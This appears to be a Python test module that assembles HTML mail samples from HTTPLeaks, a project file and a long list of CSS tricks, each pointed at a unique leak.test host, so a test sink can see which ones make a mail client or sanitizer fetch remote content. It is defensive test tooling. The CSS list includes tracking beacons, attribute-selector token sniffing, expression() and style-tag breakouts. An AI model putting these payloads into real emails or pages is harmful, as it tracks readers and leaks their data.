"""Every known way in which HTML asks somebody for something, each as the HTML of a mail: HTTPLeaks, ours, and CSS.

The places are ``vNNN-N.leak.test``, one for each, so that a sink can tell them apart.
"""

import re
import runpy
from pathlib import Path

HOST = re.compile(r"leaking\.via")
OURS = re.compile(r"(?P<scheme>(?:https?|ftp|ws):)?//v\d+\.track\.test:8765")
RULES = re.compile(
    r"@(?=import|\\69mport|font|property|counter|container|media|supports|layer|scope|starting|keyframes|page|namespace"
    r"|document|view)"
)

CSS = (
    "@import '@';", "@import url(@) layer(a);", "@import url(@) supports(display:grid) screen;", "@\\69mport '@';",
    "p{background:url(@)}", "p{background:URL( '@' )}", "p{background:\\75 rl(@)}", "p{background:u\\72l('@')}",
    "p{background:src('@')}", "p{background-image:image-set('@' 1x, url(@) 2x)}", "p{mask:url(@)}",
    "p{background-image:-webkit-image-set(url(@) 1x)}", "p{background:-webkit-cross-fade(url(@),url(@),50%)}",
    "p{background:cross-fade(url(@) 50%,red)}", "p{background:image('@')}", "p{background:element(#@)}",
    "p{--a:url(@);background:var(--a)}", "p{--a:'@';background:image-set(var(--a) 1x)}", "p::before{content:url(@)}",
    "@property --u{syntax:'<image>';inherits:false;initial-value:url(@)} p{background:var(--u)}",
    "p{list-style:url(@);display:list-item}", "p::marker{content:url(@)}", "p{cursor:url(@),auto}",
    "@counter-style x{system:cyclic;symbols:url(@)} p{list-style:x;display:list-item}", "p{border-image:url(@) 30}",
    "p{shape-outside:url(@);float:left}", "p{filter:url(@#f)}", "p{clip-path:url(@#c)}", "p{offset-path:url(@#p)}",
    "p{-webkit-mask-box-image:url(@)}", "p{backdrop-filter:url(@#f)}", "p{-webkit-box-reflect:below 0 url(@)}",
    "svg *{fill:url(@#g);stroke:url(@#g);marker:url(@#m)}", "@font-face{font-family:zz;src:url(@)} p{font-family:zz}",
    "@font-face{font-family:zz;src:local('none'),url(@) format('woff2');unicode-range:U+41-5A} p{font-family:zz}",
    # text told by which fonts are needed, and by how large they make it (container queries, lazy fonts, ligatures)
    "@font-face{font-family:a;src:url(@);unicode-range:U+41} #secret{font-family:a,b}",
    "body{container-type:inline-size} @container (min-width:1px){p{background:url(@)}}",
    "body{container:c/size} @container c (width>1px){p::after{content:url(@)}}",
    "body{container-name:s} @container style(--x:1){p{background:url(@)}}",
    "@media (min-width:1px){p{background:url(@)}}", "@media all{@media screen{p{background:url(@)}}}",
    "@supports (display:grid){p{background:url(@)}}", "@layer a{p{background:url(@)}}",
    "@scope (body){p{background:url(@)}}", "@starting-style{p{background:url(@)}}",
    "@keyframes k{from{background:url(@)}to{background:url(@)}} p{animation:k 1s}", "p:has(b){background:url(@)}",
    "p:hover{background:url(@)}", "a:visited{background:url(@)}", "a:link{background:url(@)}",
    "#secret[data-token^='s']{background:url(@)}", "#secret:lang(en){background:url(@)}", "p{&{background:url(@)}}",
    "p::first-line{background:url(@)}", "p::selection{background:url(@)}", "::-webkit-scrollbar{background:url(@)}",
    "::-webkit-scrollbar-thumb{background:url(@)} body{height:9000px}", "p::highlight(x){background:url(@)}",
    "@page{background:url(@)}", "@media print{p{background:url(@)}}", "@namespace '@';",
    "@document url(@){p{color:red}}",
    "@font-palette-values --x{font-family:a;base-palette:url(@)}", "p{behavior:url(@);-moz-binding:url(@)}",
    "p{width:expression(new Image().src='@')}", "p{background:attr(data-x type(<url>))}",
    "p{background:if(else:url(@))}",
    "p{background:url(data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='@'/></svg>)}",
    "@view-transition{navigation:auto} ::view-transition{background:url(@)}", "p{-webkit-mask:paint(@)}",
    "p{background:url(@)!important;opacity:0;position:fixed;inset:0}",
    "</style><img src='@'><style>", "<!--p{background:url(@)}-->",
)  # fmt: skip


def vectors(attack: Path, ours: Path) -> list[tuple[str, str]]:
    """(name, HTML) of each way; ``attack`` holds HTTPLeaks, ``ours`` is the collection's ``vectors.py``."""
    found = [("httpleaks whole", attack.read_text("utf-8"))]
    found += [(f"httpleaks {line}", text) for line, text in _lines(attack)]
    made = runpy.run_path(str(ours))
    whole = str(made["HTML"])
    found.append(("ours whole", whole))
    found += [("ours head", f"<head>{one}</head><p>x</p>") for one in made["H"]]
    found += [("ours body", f"<p>x</p>{one}") for one in made["B"]]
    page = (
        '<style>{}</style><p class="a" data-x="@">AB <b>x</b></p><i id="secret" data-token="s3cret">ABC</i>'
        '<a href="@">l</a>'
    )
    found += [("css", page.replace("{}", css)) for css in CSS]
    found += [("css in place", f'<p style="{css[2:-1]}">AB</p>') for css in CSS if re.match(r"p\{[^'\"]*\}\Z", css)]
    named = [(f"{name} #{number}", numbered(html, number)) for number, (name, html) in enumerate(found)]
    return [(name, html) for name, html in named if places(html)]


def _lines(attack: Path) -> list[tuple[int, str]]:
    """Each line of HTTPLeaks that names the place, alone: the page as a whole is ended early by some of them."""
    lines = attack.read_text("utf-8").splitlines()
    return [(at, text) for at, text in enumerate(lines, 1) if HOST.search(text)]


def numbered(html: str, number: int) -> str:
    """``html`` whose every place is one of its own: v<number>-<n>.leak.test."""
    count = 0

    def place(scheme: str) -> str:
        nonlocal count
        count += 1
        return f"{scheme}v{number}-{count}.leak.test"

    html = HOST.sub(lambda _: place(""), html)
    html = OURS.sub(lambda match: f"{match['scheme'] or ''}{place('//')}", html)
    rules = RULES.sub("\0", html)
    return re.sub(r"@(?![\w.-]*\.)", lambda _: place("http://") + "/x", rules).replace("\0", "@")


def places(html: str) -> int:
    """How many places a page names."""
    return len(set(re.findall(r"v\d+-\d+\.leak\.test", html)))
